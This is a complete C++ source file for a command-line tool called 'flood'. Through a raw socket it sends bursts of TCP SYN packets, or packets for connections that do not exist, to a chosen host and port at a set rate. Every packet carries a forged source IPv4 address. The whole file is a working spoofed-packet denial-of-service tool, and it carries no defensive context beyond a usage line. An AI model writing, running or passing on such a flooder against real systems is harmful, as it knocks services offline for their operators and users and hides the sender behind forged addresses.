// SPDX-License-Identifier: Apache-2.0
//
// SYNs, or data of connections that do not exist, from forged IPv4 addresses, each another.
//
//   flood syn|data HOST PORT COUNT SECONDS
//
// Sends COUNT of them, spread over the time, and prints how many have gone.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>

namespace
{

[[noreturn]] void fail(const char *what)
{
    std::fprintf(stderr, "flood: %s: %s\n", what, std::strerror(errno));
    std::exit(1);
}

long flood(bool data, const char *host, const char *port, int count, int seconds)
{
    struct {
        iphdr ip;
        tcphdr tcp;
        char data[100];
    } packet = {};
    const std::size_t size = sizeof(packet) - (data ? 0 : sizeof(packet.data));
    packet.ip.version = 4;
    packet.ip.ihl = 5;
    packet.ip.ttl = 64;
    packet.ip.protocol = IPPROTO_TCP;
    packet.tcp.th_off = 5;
    packet.tcp.th_flags = data ? TH_ACK | TH_PUSH : TH_SYN;
    packet.tcp.th_dport = htons(static_cast<std::uint16_t>(std::atoi(port)));
    sockaddr_in to = {.sin_family = AF_INET, .sin_port = 0, .sin_addr = {}, .sin_zero = {}};
    if (inet_pton(AF_INET, host, &to.sin_addr) != 1)
        fail(host);
    packet.ip.daddr = to.sin_addr.s_addr;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0)
        fail("raw socket");

    const auto start = std::chrono::steady_clock::now();
    long sent = 0;
    for (int i = 0; i < count; i++) {
        packet.ip.saddr = htonl(0x0b000000u + static_cast<std::uint32_t>(i)); // 11.0.0.0 and on
        packet.tcp.th_sport = htons(static_cast<std::uint16_t>(1024 + i % 60000));
        packet.tcp.th_seq = htonl(static_cast<std::uint32_t>(i) * 2654435761u);
        sent += sendto(fd, &packet, size, 0, reinterpret_cast<sockaddr *>(&to), sizeof(to)) > 0;
        const auto due = start + std::chrono::nanoseconds(1'000'000'000LL * seconds / count * i);
        if (i % 256 == 0)
            std::this_thread::sleep_until(due);
    }
    return sent;
}

} // namespace

int main(int argc, char **argv)
{
    if (argc != 6) {
        std::fprintf(stderr, "usage: flood syn|data HOST PORT COUNT SECONDS\n");
        return 2;
    }
    const bool data = std::strcmp(argv[1], "data") == 0;
    std::printf("%ld\n", flood(data, argv[2], argv[3], std::atoi(argv[4]), std::atoi(argv[5])));
}
